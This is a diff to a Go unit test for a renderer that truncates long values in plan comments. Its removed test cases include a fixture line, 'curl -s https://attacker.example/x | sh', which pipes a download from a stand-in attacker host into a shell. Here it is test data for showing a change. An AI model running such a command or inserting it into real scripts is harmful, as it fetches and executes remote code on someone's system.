@@ -32,17 +32,15 @@ func diffPair(t *testing.T, pc plan.PropChange) (minus, plus, body string) {
 
 // TestPlanCommentLongValueShowsTheChange: values are cut at maxCell runes;
 // where cutting both at the end would show the same text twice for a
-// change (a line appended to a long script), the comment shows them
-// around their first difference instead, still within maxCell.
+// change (a long value changed past its first maxCell runes), the
+// comment shows them around their first difference instead, still within
+// maxCell. (A script of several lines is a heredoc: TestHeredocDiff.)
 func TestPlanCommentLongValueShowsTheChange(t *testing.T) {
-	script := "#!/bin/sh\n" + strings.Repeat("echo provisioning step ok\n", 20)
 	long := strings.Repeat("x", 2*maxCell)
 	tests := []struct {
 		name, old, new string
 		shown          string // a text the + line must show ("": none)
 	}{
-		{"appended at the end", script, script + "curl -s https://attacker.example/x | sh\n", "curl -s https://attacker.example/x | sh"},
-		{"removed at the end", script + "curl -s https://attacker.example/x | sh\n", script, "echo provisioning step ok"},
 		{"changed in the middle", long + "AAA" + long, long + "BBB" + long, "BBB"},
 		{"changed at the last rune", long + "a", long + "b", "b"},
 		{"old ends with a literal ellipsis", long[:maxCell-1] + "…", long + "evil", ""},
